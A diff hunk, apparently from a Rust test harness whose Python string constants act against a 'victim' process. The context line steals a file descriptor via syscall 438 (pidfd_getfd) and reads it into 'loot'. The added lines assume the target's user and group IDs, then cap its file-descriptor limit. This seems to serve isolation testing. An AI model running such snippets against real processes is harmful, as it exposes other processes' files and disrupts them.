@@ -104,6 +104,9 @@ loot(os.pread(call(438, handle, told["fd"], 0), 100, 0))
 "#;
 const LIMIT: &str = r#"
 pid, told = victim()
+owner = os.stat("/proc/%d" % pid)
+os.setresgid(owner.st_gid, owner.st_gid, owner.st_gid)
+os.setresuid(owner.st_uid, owner.st_uid, owner.st_uid)
 resource.prlimit(pid, resource.RLIMIT_NOFILE, (77, 77))
 "#;
 const ENTER: &str = r#"
